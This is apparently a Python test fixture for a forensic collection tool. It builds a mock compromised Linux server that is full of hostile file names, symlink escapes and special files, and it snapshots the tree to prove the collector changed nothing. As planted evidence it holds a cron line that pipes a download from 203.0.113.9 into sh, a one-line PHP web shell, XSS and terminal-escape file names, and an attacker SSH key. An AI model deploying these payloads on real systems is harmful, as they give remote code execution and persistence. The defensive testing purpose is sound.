"""A hostile examined root for tests, and a way to prove a command left it unchanged.

:func:`build_hostile_root` makes a small tree that looks like a compromised
Linux server (``/etc/passwd``, ``/var/log/auth.log``, users' ``.ssh`` folders)
and hides, in the places a collector copies (``/etc``, ``/var/log``, ``/tmp``,
``/home/<user>/.ssh``, ``/root``), everything the design says must neither crash,
hang, escape the root nor be rendered unescaped: names with newlines, ANSI
escapes, HTML, invalid UTF-8 and leading dashes; symlink loops and links
pointing out of the root; a FIFO, a UNIX socket and a device node; a directory
chain deeper than ``PATH_MAX``; a sparse terabyte file; mode-000 files.

:func:`snapshot` records every entry (content hash, owner, mode, size, all
times, symlink target) without following symlinks and without moving access
times, so a test can assert ``snapshot(root)`` is the same before and after.

Paths handed out by this module are *host paths*: ``/``-rooted, relative to the
examined root, ``str`` decoded with ``surrogateescape`` exactly like
:class:`breachkit.host.records.FileStat` paths. :meth:`HostileRoot.real` maps one
back to the file on the test machine (as ``bytes``, so invalid UTF-8 survives).
"""

from __future__ import annotations

import errno
import hashlib
import os
import shutil
import socket
import stat
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, TypeVar

#: Levels of the deep directory chain; with 10-byte components the chain's full
#: path is ~6,000 bytes, beyond Linux's PATH_MAX of 4,096.
DEEP_LEVELS = 600
DEEP_COMPONENT = "level_%03d"
SPARSE_SIZE = 1 << 40
PATH_MAX = 4096

#: Hostile names placed in several directories the collector copies.
HOSTILE_NAMES: tuple[bytes, ...] = (
    b"new\nline",
    b"\n",
    b"\x1b[31mred\x1b[0m",
    b"\x1b]0;title\x07",
    b"\x1b[2J\x1b[Hclear",
    b"bad\xff\xfename",
    b"\xc3\x28half-utf8",
    b"<img src=x onerror=alert(1)>.php",
    b"with space",
    b" leading space",
    b"trailing space ",
    b"-rf",
    b"--help",
    b"...",
    b"..foo",
    b"back\\slash",
    b"carriage\rreturn",
    b"tab\tname",
    b"del\x7fchar",
    b"c1\xc2\x9bcsi",
    b"bidi\xe2\x80\xaeexe.txt",
    b"*",
    b"?",
    b"[ab]",
    b"n" * 255,
)

AUTH_LOG = b"""\
Mar  3 09:12:01 web01 sshd[1201]: Accepted publickey for alice from 198.51.100.7 port 50122 ssh2
Mar  3 09:14:22 web01 sshd[1250]: Failed password for root from 203.0.113.9 port 41234 ssh2
Mar  3 09:14:25 web01 sshd[1250]: Failed password for invalid user \x1b[31madmin\x1b[0m from 203.0.113.9
Mar  3 09:15:40 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash
"""

ACCESS_LOG = b"""\
203.0.113.9 - - [03/Mar/2024:09:20:01 +0000] "GET /<script>alert(1)</script>.php HTTP/1.1" 404 153
203.0.113.9 - - [03/Mar/2024:09:20:05 +0000] "POST /uploads/shell.php HTTP/1.1" 200 12
"""

PASSWD = b"""\
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash
"""


@dataclass(frozen=True)
class HostileRoot:
    """What :func:`build_hostile_root` made; host paths of the notable entries."""

    path: Path
    #: Host paths of every file with a hostile name, in each directory that has them.
    hostile_paths: tuple[str, ...]
    fifo: str = "/tmp/fifo"
    socket: str | None = "/tmp/socket"
    device: str | None = "/tmp/null-device"
    sparse: str | None = "/tmp/sparse.img"
    loop_a: str = "/tmp/loop_a"
    loop_b: str = "/tmp/loop_b"
    self_loop: str = "/tmp/self_loop"
    #: ``/tmp/shadow-link -> /etc/shadow``: absolute, must resolve to the root's /etc/shadow.
    abs_escape: str = "/tmp/shadow-link"
    #: ``/tmp/passwd-link -> ../../../../etc/passwd``: ``..`` clamps at the root.
    rel_escape: str = "/tmp/passwd-link"
    #: ``/home/bob -> ../../../../root``: a symlinked home that lands on /root.
    home_link: str = "/home/bob"
    unreadable_file: str = "/tmp/mode000"
    unreadable_dir: str = "/tmp/mode000-dir"
    empty_file: str = "/tmp/empty"
    deep_top: str = "/tmp/deep"
    deep_levels: int = DEEP_LEVELS
    #: Host path of the regular file at the bottom of the deep chain.
    deep_file: str = ""
    #: Why a part of the fixture could not be made here (e.g. no sparse files).
    notes: tuple[str, ...] = field(default_factory=tuple)

    def real(self, host_path: str) -> bytes:
        """The test machine's path (bytes) of a host path inside this root."""
        return os.fsencode(self.path) + os.fsencode(host_path)

    def deep_dirs(self) -> list[str]:
        """Host paths of every directory of the deep chain, top first."""
        out = [self.deep_top]
        for level in range(self.deep_levels):
            out.append(out[-1] + "/" + DEEP_COMPONENT % level)
        return out


def _write(root: bytes, host: bytes, data: bytes = b"", mode: int = 0o644) -> None:
    full = root + host
    os.makedirs(os.path.dirname(full), exist_ok=True)
    fd = os.open(full, os.O_WRONLY | os.O_CREAT | os.O_EXCL, mode)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)
    os.chmod(full, mode)  # the umask must not soften what a test expects


def _mkdirs(root: bytes, *hosts: bytes) -> None:
    for host in hosts:
        os.makedirs(root + host, exist_ok=True)


def _symlink(root: bytes, host: bytes, target: bytes) -> None:
    os.symlink(target, root + host)


def build_hostile_root(path: Path) -> HostileRoot:
    """Create the hostile tree under ``path`` (created if missing) and describe it."""
    path.mkdir(parents=True, exist_ok=True)
    root = os.fsencode(path)
    notes: list[str] = []
    _mkdirs(
        root,
        b"/etc/ssh",
        b"/etc/cron.d",
        b"/var/log/nginx",
        b"/home/alice/.ssh",
        b"/root/.ssh",
        b"/tmp",
        b"/usr/share/zoneinfo/Etc",
    )
    # -- an ordinary server ------------------------------------------------
    _write(root, b"/etc/passwd", PASSWD)
    _write(root, b"/etc/group", b"root:x:0:\nalice:x:1000:\n")
    _write(root, b"/etc/shadow", b"root:$6$salt$hash:19700:0:99999:7:::\n", 0o640)
    _write(root, b"/etc/hostname", b"web01\n")
    _write(root, b"/etc/timezone", b"Etc/UTC\n")
    _write(root, b"/usr/share/zoneinfo/Etc/UTC", b"TZif2 fake zone data\n")
    _symlink(root, b"/etc/localtime", b"/usr/share/zoneinfo/Etc/UTC")
    _write(root, b"/etc/ssh/sshd_config", b"PermitRootLogin no\nPasswordAuthentication no\n")
    _write(root, b"/etc/cron.d/\x1b]0;pwned\x07", b"* * * * * root curl http://203.0.113.9/x | sh\n")
    _write(root, b"/var/log/auth.log", AUTH_LOG, 0o640)
    _write(root, b"/var/log/syslog", b"Mar  3 09:00:00 web01 systemd[1]: Started Session 4.\n")
    _write(root, b"/var/log/nginx/access.log", ACCESS_LOG)
    _symlink(root, b"/var/log/self_loop", b"self_loop")
    _write(root, b"/home/alice/.bash_history", b"ls -la\nwget http://203.0.113.9/x\n", 0o600)
    _write(root, b"/home/alice/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3Nza attacker@evil\n", 0o600)
    _write(root, b"/root/.bash_history", b"id\ncat /etc/shadow\n", 0o600)
    _write(root, b"/root/.ssh/authorized_keys", b"ssh-rsa AAAAB3Nza root@admin\n", 0o600)
    _symlink(root, b"/home/bob", b"../../../../root")
    _symlink(root, b"/home/alice/.profile", b".profile")  # a copy target that is a loop

    # -- hostile names where the collector looks -----------------------------
    hostile: list[str] = []
    for folder in (b"/tmp", b"/etc", b"/var/log", b"/home/alice/.ssh"):
        for name in HOSTILE_NAMES:
            host = folder + b"/" + name
            _write(root, host, b"evidence named " + name + b"\n")
            hostile.append(os.fsdecode(host))
    _mkdirs(root, b"/tmp/\x1b[31mdir\x1b[0m\nx", b"/tmp/bad\xffdir")
    # A name cannot hold "/": this one is a folder "<script>alert(1)<" and a file.
    _write(root, b"/tmp/<script>alert(1)</script>.php", b"<?php system($_GET['c']); ?>\n")
    _write(root, b"/tmp/\x1b[31mdir\x1b[0m\nx/inner\nfile", b"inner\n")
    _write(root, b"/tmp/bad\xffdir/bad\xfe", b"inner\n")

    # -- symlinks: loops and escapes ------------------------------------------
    _symlink(root, b"/tmp/loop_a", b"loop_b")
    _symlink(root, b"/tmp/loop_b", b"loop_a")
    _symlink(root, b"/tmp/self_loop", b"self_loop")
    _symlink(root, b"/tmp/shadow-link", b"/etc/shadow")
    _symlink(root, b"/tmp/passwd-link", b"../../../../etc/passwd")
    _symlink(root, b"/tmp/root-link", b"/")
    _symlink(root, b"/tmp/dangling", b"/nonexistent/file")
    _symlink(root, b"/tmp/bad\xfflink", b"\x1b[31m\xfe target")

    # -- special files ------------------------------------------------------------
    os.mkfifo(root + b"/tmp/fifo", 0o644)
    socket_path: str | None = "/tmp/socket"
    try:
        _make_socket(root + b"/tmp", b"socket")
    except OSError as exc:
        socket_path = None
        notes.append(f"no UNIX socket: {exc}")
    device_path: str | None = "/tmp/null-device"
    try:
        os.mknod(root + b"/tmp/null-device", 0o644 | stat.S_IFCHR, os.makedev(1, 3))
    except OSError as exc:
        device_path = None
        notes.append(f"no device node (needs CAP_MKNOD): {exc}")

    # -- size, permissions, emptiness ----------------------------------------
    sparse_path: str | None = "/tmp/sparse.img"
    try:
        _make_sparse(root + b"/tmp/sparse.img", SPARSE_SIZE)
    except OSError as exc:
        sparse_path = None
        notes.append(f"no sparse 1 TiB file on this file system: {exc}")
    _write(root, b"/tmp/mode000", b"secret\n", 0o000)
    _mkdirs(root, b"/tmp/mode000-dir")
    _write(root, b"/tmp/mode000-dir/inside", b"hidden\n")
    os.chmod(root + b"/tmp/mode000-dir", 0o000)
    _write(root, b"/tmp/empty", b"")

    # -- deeper than PATH_MAX --------------------------------------------------------
    deep_file = _make_deep_chain(root + b"/tmp", b"deep", DEEP_LEVELS)

    return HostileRoot(
        path=path,
        hostile_paths=tuple(hostile),
        socket=socket_path,
        device=device_path,
        sparse=sparse_path,
        deep_file="/tmp/" + os.fsdecode(deep_file),
        notes=tuple(notes),
    )


def _make_socket(folder: bytes, name: bytes) -> None:
    """Bind an AF_UNIX socket inside ``folder``, however long its path.

    ``sun_path`` holds 108 bytes; binding through ``/proc/self/fd/N`` keeps the
    address short whatever the depth of the test's temporary folder.
    """
    dir_fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        sock.bind(b"/proc/self/fd/%d/%s" % (dir_fd, name))
    finally:
        sock.close()
        os.close(dir_fd)


def _make_sparse(full: bytes, size: int) -> None:
    fd = os.open(full, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    try:
        os.pwrite(fd, b"MZ header at the start\n", 0)
        os.ftruncate(fd, size)
        st = os.fstat(fd)
    except OSError:
        os.close(fd)
        os.unlink(full)
        raise
    os.close(fd)
    if st.st_blocks * 512 >= size:  # pragma: no cover - a file system without holes
        os.unlink(full)
        raise OSError(errno.EFBIG, "file system allocated the whole file (no holes)")


def _make_deep_chain(folder: bytes, top: bytes, levels: int) -> bytes:
    """Make ``top/level_000/.../level_NNN/bottom.txt`` with dir fds; return its path under folder."""
    os.mkdir(folder + b"/" + top)
    fd = os.open(folder + b"/" + top, os.O_RDONLY | os.O_DIRECTORY)
    parts = [top]
    try:
        for level in range(levels):
            name = os.fsencode(DEEP_COMPONENT % level)
            os.mkdir(name, dir_fd=fd)
            child = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = child
            parts.append(name)
        out = os.open(b"bottom.txt", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644, dir_fd=fd)
        os.write(out, b"payload hidden below PATH_MAX\n")
        os.close(out)
    finally:
        os.close(fd)
    parts.append(b"bottom.txt")
    return b"/".join(parts)


# -- snapshots --------------------------------------------------------------------------

_O_NOATIME = getattr(os, "O_NOATIME", 0)


def _open_quiet(name: bytes, flags: int, dir_fd: int) -> int:
    """Open without moving atime; falls back (atime may move) where O_NOATIME is refused."""
    try:
        return os.open(name, flags | _O_NOATIME | os.O_NOFOLLOW | os.O_CLOEXEC, dir_fd=dir_fd)
    except PermissionError:
        return os.open(name, flags | os.O_NOFOLLOW | os.O_CLOEXEC, dir_fd=dir_fd)


def _content_hash(dir_fd: int, name: bytes, st: os.stat_result) -> str | None:
    """SHA-256 of a regular file; for a sparse file, of its data extents and their offsets."""
    try:
        fd = _open_quiet(name, os.O_RDONLY | os.O_NONBLOCK, dir_fd)
    except OSError:
        return None
    digest = hashlib.sha256()
    try:
        if st.st_blocks * 512 < st.st_size and hasattr(os, "SEEK_DATA"):
            digest.update(b"sparse")
            offset = 0
            while offset < st.st_size:
                try:
                    start = os.lseek(fd, offset, os.SEEK_DATA)
                except OSError as exc:  # ENXIO: no data after offset
                    if exc.errno == errno.ENXIO:
                        break
                    raise
                end = os.lseek(fd, start, os.SEEK_HOLE)
                digest.update(b"%d:" % start)
                os.lseek(fd, start, os.SEEK_SET)
                remaining = end - start
                while remaining > 0:
                    chunk = os.read(fd, min(remaining, 1 << 20))
                    if not chunk:
                        break
                    digest.update(chunk)
                    remaining -= len(chunk)
                offset = end
            return "sparse:" + digest.hexdigest()
        while True:
            chunk = os.read(fd, 1 << 20)
            if not chunk:
                break
            digest.update(chunk)
        return digest.hexdigest()
    finally:
        os.close(fd)


def _record(dir_fd: int, name: bytes) -> dict[str, Any]:
    # readlink(2) moves a symlink's atime and no flag prevents it, so read the
    # target before taking the stat: the recorded atime is then the settled one.
    target = os.readlink(name, dir_fd=dir_fd) if name and _is_link(dir_fd, name) else None
    st = os.lstat(name, dir_fd=dir_fd) if name else os.fstat(dir_fd)
    record: dict[str, Any] = {
        "type": stat.S_IFMT(st.st_mode),
        "mode": st.st_mode,
        "uid": st.st_uid,
        "gid": st.st_gid,
        "size": st.st_size,
        "inode": st.st_ino,
        "nlink": st.st_nlink,
        "mtime_ns": st.st_mtime_ns,
        "ctime_ns": st.st_ctime_ns,
        "atime_ns": st.st_atime_ns,
        "target": target,
        "sha256": None,
    }
    if stat.S_ISREG(st.st_mode):
        record["sha256"] = _content_hash(dir_fd, name, st)
    return record


def _is_link(dir_fd: int, name: bytes) -> bool:
    return stat.S_ISLNK(os.lstat(name, dir_fd=dir_fd).st_mode)


def snapshot(path: Path | str) -> dict[str, dict[str, Any]]:
    """Every entry under ``path`` by host path (``"/"`` is ``path`` itself).

    Symlinks are never followed, FIFOs, sockets and devices never opened, and
    files and directories are opened with ``O_NOATIME`` (owner or root), so
    taking a snapshot does not change what it records. Works on trees deeper
    than ``PATH_MAX``: everything is relative to directory fds.
    """
    top = os.open(os.fsencode(path), os.O_RDONLY | os.O_DIRECTORY | _O_NOATIME | os.O_CLOEXEC)
    out: dict[str, dict[str, Any]] = {"/": _record(top, b"")}
    stack: list[tuple[int, bytes, Iterator[bytes]]] = []
    try:
        stack.append((top, b"", iter(_names(top))))
        while stack:
            dir_fd, prefix, names = stack[-1]
            name = next(names, None)
            if name is None:
                os.close(dir_fd)
                stack.pop()
                continue
            host = prefix + b"/" + name
            record = _record(dir_fd, name)
            out[os.fsdecode(host)] = record
            if record["type"] == stat.S_IFDIR:
                try:
                    child = _open_quiet(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd)
                except OSError:
                    record["unlistable"] = True
                    continue
                stack.append((child, host, iter(_names(child))))
    finally:
        for dir_fd, _, _ in stack:
            os.close(dir_fd)
    return out


def _names(dir_fd: int) -> list[bytes]:
    # os.scandir(fd) dups the fd, so the listing keeps the O_NOATIME of dir_fd.
    with os.scandir(dir_fd) as entries:
        return sorted(os.fsencode(entry.name) for entry in entries)


def snapshot_diff(
    before: dict[str, dict[str, Any]],
    after: dict[str, dict[str, Any]],
    atime: bool = True,
) -> list[str]:
    """Readable differences between two snapshots (empty when the tree is unchanged).

    ``atime=False`` ignores access times: use it where ``O_NOATIME`` cannot apply
    (not root, not the owner).
    """
    problems: list[str] = []
    for host in sorted(before.keys() - after.keys()):
        problems.append(f"removed: {host!r}")
    for host in sorted(after.keys() - before.keys()):
        problems.append(f"added: {host!r}")
    for host in sorted(before.keys() & after.keys()):
        old, new = before[host], after[host]
        for key in sorted(old.keys() | new.keys()):
            if key == "atime_ns" and not atime:
                continue
            if old.get(key) != new.get(key):
                problems.append(f"{host!r}: {key} {old.get(key)!r} -> {new.get(key)!r}")
    return problems


# -- trouble during a walk ----------------------------------------------------------------

T = TypeVar("T")


def delete_when(
    entries: Iterable[T],
    trigger: Callable[[T], bool],
    victims: Iterable[bytes],
) -> Iterator[T]:
    """Pass ``entries`` through; once ``trigger(entry)`` holds, delete ``victims`` (real paths).

    The deletion happens when the consumer asks for the entry *after* the
    trigger, so a walk suspended right after yielding a directory finds it gone
    when it tries to enter it. Victims may be files or whole trees.
    """
    pending = list(victims)
    for entry in entries:
        yield entry
        if pending and trigger(entry):
            for victim in pending:
                remove_tree(victim)
            pending = []


def remove_tree(full: bytes) -> None:
    """Remove a file, a symlink or a whole tree (mode-000 folders included)."""
    if os.path.islink(full) or not os.path.isdir(full):
        os.unlink(full)
        return
    for folder, dirs, _ in os.walk(full):
        for name in dirs:
            os.chmod(os.path.join(folder, name), 0o700)
    shutil.rmtree(full)
